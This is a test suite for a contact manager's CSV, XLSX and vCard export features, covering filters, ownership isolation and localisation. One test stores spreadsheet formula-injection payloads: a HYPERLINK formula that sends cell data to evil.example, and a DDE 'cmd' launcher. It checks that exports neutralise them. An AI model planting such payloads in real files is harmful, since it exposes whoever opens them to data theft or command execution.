// Lists as files: exactly what they show, in their order, for nobody else.
import { parse } from 'csv-parse/sync';
import { readXlsx } from 'hucre/xlsx';
import { beforeEach, describe, expect, test, vi } from 'vitest';
import { createUser, dbOf, dom, signedIn, Visitor } from '../support/app.ts';
import { exhaustive } from '../support/exhaustive.ts';
import { leaveEarly } from '../support/leaveEarly.ts';
import type { LinkedIds } from '../support/records.ts';
import { createRecords, dumpOf } from '../support/records.ts';
import { useSignedIn } from '../support/signedIn.ts';
import { statementsOf } from '../support/statements.ts';

vi.setConfig({ testTimeout: 60_000 });

const { alice, app, browser, db } = await useSignedIn({ clock: () => new Date('2026-11-29T22:30:00Z') });
let ids: LinkedIds;
beforeEach(async () => {
  ids = await createRecords(app, alice);
});

const csvOf = (text: string, delimiter = ','): string[][] =>
  parse(text, { bom: true, delimiter, relax_column_count: false });

async function csv(address: string, visitor: Visitor = browser): Promise<Record<string, string>[]> {
  const response = await visitor.get(address);
  expect(response.status).toBe(200);
  const [headings = [], ...rows] = csvOf(response.text);
  return rows.map((row) => Object.fromEntries(headings.map((heading, at) => [heading, row[at] ?? ''])));
}

async function xlsx(address: string) {
  const response = await browser.download(address);
  expect(response.headers['content-type']).toContain('spreadsheetml.sheet');
  const { sheets } = await readXlsx(response.body as Buffer);
  return sheets[0]?.rows ?? [];
}

function addPeople(...names: string[]) {
  return db.contact.createMany({ data: names.map((first_name) => ({ user_id: alice.id, first_name })) });
}

describe('the page of an export', () => {
  test('says how many, by which filter, and offers each format for exactly that', async () => {
    await addPeople('Ada', 'Ewa');
    const $ = dom(await browser.get(`/contacts/export/?tag=${ids.tag}&search=jan&sort=name&page=7`));
    expect($('h1').text()).toBe('Export contacts');
    expect($('.page-lead').text()).toBe('1 person');
    expect(
      $('.export-filter')
        .toArray()
        .map((one) => $(one).text()),
    ).toEqual(['Hurt', 'Search: “jan”']);
    const links = $('a[download]')
      .toArray()
      .map((link) => $(link).attr('href'));
    expect(links).toEqual(
      ['xlsx', 'csv', 'vcf'].map((format) => `/contacts/export/?tag=${ids.tag}&search=jan&sort=name&format=${format}`),
    );
    expect($('nav a[href^="/contacts/?"]').attr('href')).toBe(`/contacts/?tag=${ids.tag}&search=jan&sort=name`);
  });

  test('knows ticked rows, also as a list of numbers, and none of a stranger’s', async () => {
    const bob = await createUser(app, 'bob');
    const { contact: stranger } = await createRecords(app, bob);
    const $ = dom(await browser.get(`/contacts/export/?ids=${ids.contact},${stranger}&ids=junk`));
    expect($('.page-lead').text()).toBe('1 person');
    expect($('main').text()).toContain('Only the ones you ticked.');
    expect($('a[download]').first().attr('href')).toBe(
      `/contacts/export/?ids=${ids.contact}&ids=${stranger}&format=xlsx`,
    );
  });

  test('says that only people are in it of whom nothing is new', async () => {
    await db.read("UPDATE contacts SET updated_at = '2020-01-01' WHERE user_id = $1", {});
    await db.read('DELETE FROM tasks WHERE user_id = $1', {});
    await db.read('DELETE FROM interactions WHERE user_id = $1', {});
    const $ = dom(await browser.get('/contacts/export/?untouched=2'));
    expect($('.export-filter').text()).toBe('Untouched for 2 years');
    const { headers } = await browser.get('/contacts/export/?untouched=2&format=csv');
    expect(headers['content-disposition']).toContain('contacts-untouched-for-2-years-2026-11-29.csv');
  });

  test('offers no file of nothing', async () => {
    for (const address of ['/contacts/export/?search=nobody', '/contacts/export/?ids=junk', '/companies/export/?ids='])
      expect(dom(await browser.get(address))('a[download]')).toHaveLength(0);
  });

  test('treats parameters that make no sense as absent', async () => {
    const $ = dom(await browser.get('/contacts/export/?format=pdf&status=x&tag=999&sort=x&starred=x&search[]=1'));
    expect($('.export-filter')).toHaveLength(0);
    expect($('.page-lead').text()).toBe('1 person');
  });

  test('is linked from both lists with their filter', async () => {
    expect(
      dom(await browser.get('/contacts/?status=lead&sort=name'))('.page-actions a[href*="export"]').attr('href'),
    ).toBe('/contacts/export/?status=lead&sort=name');
    expect(dom(await browser.get('/companies/?search=dab'))('.page-actions a[href*="export"]').attr('href')).toBe(
      '/companies/export/?search=dab',
    );
  });
});

describe('people as CSV', () => {
  test('have all that is known of them', async () => {
    const at = new Date('2026-03-31T22:05:00Z');
    const points = {
      ...{ email_label: 'work' as const, more_emails: [{ label: 'home', value: 'jan@dom.example' }] },
      ...{ phone_label: 'mobile' as const, more_phones: [{ label: 'work', value: '22 555 01 04' }] },
    };
    const data = { ...points, address: 'Leśna 5\nWarszawa', birthday: '--05-17', source: 'targi', is_starred: true };
    await db.contact.update({ where: db.key(ids.contact), data });
    await db.interaction.create({
      data: { user_id: alice.id, contact_id: ids.contact, interaction_type: 'call', content: 'x', occurred_at: at },
    });
    await addPeople('Ada');
    const response = await browser.get('/contacts/export/?format=csv&sort=name');
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toBe('attachment; filename=contacts-2026-11-29.csv');
    const [headings, ada, jan] = csvOf(response.text);
    expect(headings).toEqual([
      ...['First name', 'Last name', 'Company', 'Position', 'Status'],
      ...['Email', 'Email label', 'Email 2', 'Email 2 label', 'Phone', 'Phone label', 'Phone 2', 'Phone 2 label'],
      ...['Address', 'Birthday', 'Source', 'Starred', 'Tags', 'Keep in touch', 'Notes'],
      ...['Last contact', 'Next step', 'Next step date', 'Added', 'Last changed'],
    ]);
    expect(ada?.slice(0, 20)).toEqual(['Ada', '', '', '', 'Lead', ...Array(15).fill('')]);
    expect(jan?.slice(0, 23)).toEqual([
      ...['Jan', 'Kowalski', 'Stolarnia Dąb', 'Stolarz', 'Lead'],
      ...[
        'jan@stolarnia.example',
        'Work',
        'jan@dom.example',
        'Home',
        '+48 600 100 200',
        'Mobile',
        '22 555 01 04',
        'Work',
      ],
      ...['Leśna 5\nWarszawa', "'--05-17", 'targi', 'Yes', 'Hurt', '', 'Lubi dębinę.'],
      ...['2026-04-01 00:05', 'Wycena stołu', '2026-01-31'],
    ]);
    expect(jan?.[23]).toMatch(/^\d{4}-\d\d-\d\d \d\d:\d\d$/);
  });

  test('are those of the list in its order, however many there are', async () => {
    const names = Array.from({ length: 1203 }, (_, at) => `Ewa ${String(at).padStart(4, '0')}`);
    await addPeople(...names.toReversed());
    const rows = await csv('/contacts/export/?format=csv&search=ewa&sort=name');
    expect(rows.map((row) => row['First name'])).toEqual(names);
    expect(await csv('/contacts/export/?format=csv&status=customer')).toEqual([]);
  });

  test('do not run in a spreadsheet', async () => {
    const formula = '=HYPERLINK("http://evil.example?"&A1,"click")';
    const texts = { first_name: formula, last_name: '@SUM(1)', position: "+cmd|' /C calc'!A0", notes: '-2+3+cmd' };
    await db.contact.update({ where: db.key(ids.contact), data: { ...texts, source: '\t=1', address: '＝1' } });
    const response = await browser.get('/contacts/export/?format=csv');
    for (const cell of csvOf(response.text).flat())
      if (!cell.startsWith('+48 600')) expect(cell).not.toMatch(/^[=+\-@＝\t]/);
  });

  test('have Polish headings and semicolons for a Polish user, and a name that tells the list', async () => {
    const ewa = await createUser(app, 'ewa', { locale: 'pl' });
    const { contact, tag } = await createRecords(app, ewa);
    const ewaDb = dbOf(app, ewa);
    await ewaDb.contact.update({ where: ewaDb.key(contact), data: { status: 'churned' } });
    const visitor = await signedIn(app, ewa);
    const response = await visitor.get(`/contacts/export/?format=csv&status=churned&tag=${tag}&search=Ko%2Fwa%22l`);
    const [headings] = csvOf(response.text, ';');
    expect(headings?.slice(0, 8)).toEqual([
      ...['Imię', 'Nazwisko', 'Firma', 'Stanowisko', 'Status', 'E-mail', 'E-mail (opis)', 'Telefon'],
    ]);
    const name = decodeURIComponent(
      /filename\*=UTF-8''(\S+)/.exec(response.headers['content-disposition'] ?? '')?.[1] ?? '',
    );
    expect([name, response.headers['content-disposition']]).toEqual([
      '',
      'attachment; filename=kontakty-byli-klienci-Hurt-Ko-wa-l-2026-11-29.csv',
    ]);
  });
});

describe('people as XLSX', () => {
  test('have real dates and phones as text', async () => {
    await db.contact.update({ where: db.key(ids.contact), data: { birthday: '1985-05-17', phone: '0048600100200' } });
    const [headings = [], row = []] = await xlsx('/contacts/export/?format=xlsx');
    const cell = (heading: string) => row[headings.indexOf(heading)];
    expect(cell('Birthday')).toEqual(new Date('1985-05-17T00:00:00Z'));
    expect(cell('Next step date')).toEqual(new Date('2026-01-31T00:00:00Z'));
    expect(cell('Added')).toBeInstanceOf(Date);
    expect(cell('Phone')).toBe('0048600100200');
    expect(cell('Notes')).toBe('Lubi dębinę.');
  });

  test('keep notes that are longer than a cell of Excel', async () => {
    const notes = 'Ż'.repeat(50_000);
    await db.contact.update({ where: db.key(ids.contact), data: { notes } });
    const [headings = [], row = []] = await xlsx('/contacts/export/?format=xlsx');
    const pieces = row.filter((_, at) => String(headings[at]).startsWith('Notes')).map((cell) => String(cell ?? ''));
    expect(pieces.join('')).toBe(notes);
    expect(Math.max(...pieces.map((piece) => piece.length))).toBeLessThan(32_767);
  });
});

describe('people as vCards', () => {
  test('are one file of all, in the order of the list', async () => {
    await addPeople('Ada');
    const response = await browser.get('/contacts/export/?format=vcf&sort=name').then((answer) => answer);
    expect(response.headers['content-type']).toBe('text/vcard; charset=utf-8');
    expect(response.headers['content-disposition']).toContain('contacts-2026-11-29.vcf');
    const text = response.text ?? String(response.body);
    expect(text.match(/^FN:.*$/gm)?.map((line) => line.trim())).toEqual(['FN:Ada', 'FN:Jan Kowalski']);
  });

  test('of one person have their name, a stranger’s are nowhere', async () => {
    const { headers } = await browser.get(`/contacts/${ids.contact}/export/`);
    expect(headers['content-disposition']).toBe('attachment; filename=Jan-Kowalski.vcf');
    expect(await csv(`/contacts/${ids.contact}/export/?format=csv`)).toMatchObject([{ 'First name': 'Jan' }]);
    expect((await browser.get('/contacts/junk/export/')).status).toBe(404);
    expect((await browser.get('/contacts/2147483647/export/')).status).toBe(404);
  });
});

describe('companies', () => {
  test('come out with all that is known of them, in every format', async () => {
    await db.company.update({
      where: db.key(ids.company),
      data: { phone: '22 555 01 04', email: 'biuro@dab.example', tax_id: '1234563218', notes: '=1' },
    });
    expect(await csv('/companies/export/?format=csv&search=dab')).toMatchObject([
      {
        Company: 'Stolarnia Dąb',
        'Company phone': '22 555 01 04',
        'Company email': 'biuro@dab.example',
        'Company website': 'https://stolarnia.example',
        'Company tax ID': '1234563218',
        'Company industry': 'Meble',
        'Company address': 'ul. Leśna 5\n00-001 Warszawa',
        'Company tags': 'Hurt',
        'Company notes': "'=1",
      },
    ]);
    expect((await xlsx('/companies/export/?format=xlsx'))[1]?.[4]).toBe('1234563218');
    const { headers } = await browser.get(`/companies/export/?format=vcf&ids=${ids.company}`);
    expect(headers['content-disposition']).toContain('companies-ticked-2026-11-29.vcf');
    const one = await browser.get(`/companies/${ids.company}/export/`);
    expect(one.headers['content-disposition']).toMatch(
      /filename="stolarnia-dab\.vcf"; filename\*=UTF-8''Stolarnia-D%C4%85b\.vcf/,
    );
    expect((await browser.get('/companies/junk/export/')).status).toBe(404);
  });
});

describe.each([
  '/contacts/export/?format=csv',
  '/contacts/export/?format=xlsx',
  '/contacts/export/?format=vcf',
  '/companies/export/?format=csv',
])('%s', (address) => {
  test('is for its owner alone and changes nothing', async () => {
    const bob = await createUser(app, 'bob');
    await createRecords(app, bob, { company: 'Bobsecret', first_name: 'Bobsecret' });
    const before = await dumpOf(bob);
    const response = await browser.download(address);
    expect([response.status, String(response.body).includes('Bobsecret')]).toEqual([200, false]);
    expect(await dumpOf(bob)).toEqual(before);
    const nobody = await new Visitor(app).get(address);
    expect([nobody.status, nobody.headers['location']]).toEqual([
      303,
      `/accounts/login/?next=${encodeURIComponent(address)}`,
    ]);
  });
});

test('the head of a file tells its name and is no download', async () => {
  const statements = await statementsOf(async () => {
    const { status, headers } = await browser.head('/contacts/export/?format=xlsx');
    expect([status, headers['content-disposition']]).toEqual([200, 'attachment; filename=contacts-2026-11-29.xlsx']);
  });
  expect(statements.filter((text) => /FROM contacts|rate_limits/.test(text))).toEqual([]);
});

test('a client that goes away ends the reading of the list', async () => {
  const person = { user_id: alice.id, first_name: 'Ewa', notes: 'x'.repeat(8_000) };
  await db.contact.createMany({ data: Array(3_000).fill(person) });
  const statements = await statementsOf(() => leaveEarly(app, alice, '/contacts/export/?format=csv'));
  const batches = statements.filter((text) => text.includes('AS company_name'));
  expect(batches.length).toBeGreaterThan(0);
  expect(batches.length).toBeLessThan(6);
});

describe('a card to scan', () => {
  test('has a code with another name than text, what it holds, and the file', async () => {
    const $ = dom(await browser.get(`/contacts/${ids.contact}/qr/`));
    expect($('h1').text()).toBe('Share Jan Kowalski');
    expect($('svg.qr').attr('aria-label')).toContain('Jan Kowalski');
    expect($('svg.qr path').attr('d')?.length).toBeGreaterThan(500);
    expect($('.share-card').text()).toContain('+48 600 100 200');
    expect($('main').text()).not.toContain('Lubi dębinę');
    expect($('a[download]').attr('href')).toBe(`/contacts/${ids.contact}/export/`);
  });

  test('of a stranger’s contact, a junk id and nobody is none', async () => {
    const bob = await createUser(app, 'bob');
    const { contact } = await createRecords(app, bob);
    for (const id of [contact, 'junk', 2147483647]) expect((await browser.get(`/contacts/${id}/qr/`)).status).toBe(404);
    expect((await new Visitor(app).get(`/contacts/${ids.contact}/qr/`)).status).toBe(303);
  });
});

test.runIf(exhaustive)('a large list comes out whole in each format', { timeout: 300_000 }, async () => {
  const people = Array.from({ length: 20_000 }, (_, at) => ({ user_id: alice.id, first_name: `Ewa ${at}` }));
  await db.contact.createMany({ data: people });
  expect(await csv('/contacts/export/?format=csv')).toHaveLength(20_001);
  expect(await xlsx('/contacts/export/?format=xlsx')).toHaveLength(20_002);
  const cards = await browser.download('/contacts/export/?format=vcf');
  expect(String(cards.body).match(/^BEGIN:VCARD/gm)).toHaveLength(20_001);
});
